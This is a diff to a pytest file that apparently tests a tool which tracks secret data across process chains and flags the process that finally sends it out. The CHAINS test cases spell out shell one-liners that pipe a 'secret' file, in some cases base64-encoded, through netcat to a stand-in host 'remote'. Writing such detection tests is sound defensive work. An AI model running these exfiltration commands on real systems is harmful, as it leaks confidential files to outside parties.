@@ -1,6 +1,8 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """From process to process the label goes along: whoever sends the bytes in the end is asked about."""
 
+import re
+
 import pytest
 
 from guest_run import Case
@@ -95,10 +97,11 @@ def test_refused(case, outcome):
     assert outcome.received == b"", outcome.describe()
 
 
-# Who read the file, and through whom the data went to whoever sends it, which is not among them when it was born later.
+# Who read the file, and through whom the data went to whoever sends it, which is not among them when it was born later,
+# unless its doppelganger was dissolved before it got the data.
 CHAINS = {
     "cat secret | tac | nc remote 9": "cat>tac>nc",
-    "x=$(base64 -w0 secret); (echo $x) | nc remote 9": "base64>bash",
+    "x=$(base64 -w0 secret); (echo $x) | nc remote 9": "base64>bash(>nc)?",
     "head -c 40 secret | { sleep 0.1; exec nc remote 9; }": "head>nc",
     "cat secret | cat | cat | cat | cat | cat | cat | cat | cat | nc remote 9": "cat>cat>cat>cat>cat>cat>cat>cat",
     relayed("stream", "read"): "channel>channel",
@@ -109,5 +112,5 @@ CHAINS = {
 @pytest.mark.parametrize("case", [Case(f"chain-{number}", script) for number, script in enumerate(CHAINS)], ids=str)
 def test_chain_is_told(case, outcome):
     assert outcome.questions, outcome.describe()
-    assert all(f" chain={CHAINS[case.script]} " in line and " origin=/mnt/case/secret " in line
+    assert all(re.search(f" chain={CHAINS[case.script]} ", line) and " origin=/mnt/case/secret " in line
                for line in outcome.questions), outcome.describe()
